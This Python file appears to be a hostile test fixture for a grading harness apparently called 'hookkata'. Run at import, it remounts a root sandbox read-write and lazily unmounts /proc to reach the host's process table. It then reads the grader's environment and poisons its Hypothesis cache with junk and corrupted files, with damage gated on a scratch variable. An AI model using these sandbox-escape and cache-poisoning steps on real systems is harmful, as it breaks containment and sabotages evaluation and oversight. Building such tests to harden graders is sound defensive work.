"""Tamper with what later runs load (DAMAGING outside scratch; gated; remounts a root sandbox read-write first): find the grader's Hypothesis cache (XDG_CACHE_HOME/HOME read from its /proc environ), add junk constants files, corrupt its unicode tables, add 20 MB filler.
A correct grader must not pass, write nothing outside scratch, and later runs must be unaffected. Writes only if that folder is under $HOSTILE_SCRATCH or HOSTILE_ALLOW_DAMAGE=1."""
import glob
import os


def _hostile_scratch():
    """$HOSTILE_SCRATCH from this process's environment, else from an ancestor's (the grader may scrub ours;
    inside a root bubblewrap sandbox the host's /proc is uncovered first with a lazy umount)."""
    if os.environ.get("HOSTILE_SCRATCH"):
        return os.environ["HOSTILE_SCRATCH"]
    try:
        import ctypes
        ctypes.CDLL(None).umount2(b"/proc", 2)
        pid = int(os.readlink("/proc/self"))
    except (OSError, ValueError, AttributeError):
        pid = os.getpid()
    for _ in range(12):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            if pid <= 1:
                return None
            for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                if item.startswith(b"HOSTILE_SCRATCH="):
                    return item.split(b"=", 1)[1].decode()
        except OSError:
            return None
    return None

def _writable_again():
    """Inside a bubblewrap sandbox run as root: remount the read-only / read-write (MS_BIND|MS_REMOUNT)."""
    try:
        import ctypes
        ctypes.CDLL(None).mount(None, b"/", None, 4096 | 32, None)
    except (OSError, AttributeError):
        pass



def _grader_env():
    pid, env = os.getpid(), {}
    for _ in range(12):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            if pid <= 1:
                break
            if b"hookkata" in open(f"/proc/{pid}/cmdline", "rb").read():
                for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                    key, _, value = item.partition(b"=")
                    env.setdefault(key.decode(errors="replace"), value.decode(errors="replace"))
        except OSError:
            break
    return env


def _poison():
    env = _grader_env()
    base = env.get("XDG_CACHE_HOME") or os.path.join(env.get("HOME", os.path.expanduser("~")), ".cache")
    folder = os.path.realpath(os.path.join(base, "hookkata", "hypothesis"))
    scratch = _hostile_scratch()
    allowed = os.environ.get("HOSTILE_ALLOW_DAMAGE") == "1" or (
        scratch and folder.startswith(os.path.realpath(scratch) + os.sep))
    if not allowed:
        return
    os.makedirs(os.path.join(folder, "constants"), exist_ok=True)
    for i in range(50):
        with open(os.path.join(folder, "constants", f"hostile{i:04d}"), "w") as fh:
            fh.write("not json {{{{" * 100)
    for table in glob.glob(os.path.join(folder, "unicode_data", "*", "*")):
        with open(table, "wb") as fh:
            fh.write(b"\x1f\x8b corrupt")
    with open(os.path.join(folder, "hostile-filler.bin"), "wb") as fh:
        fh.write(b"\0" * 20 * 2**20)


_writable_again()
try:
    _poison()
except OSError:
    pass


def keep_writes_in_project(call):
    return None
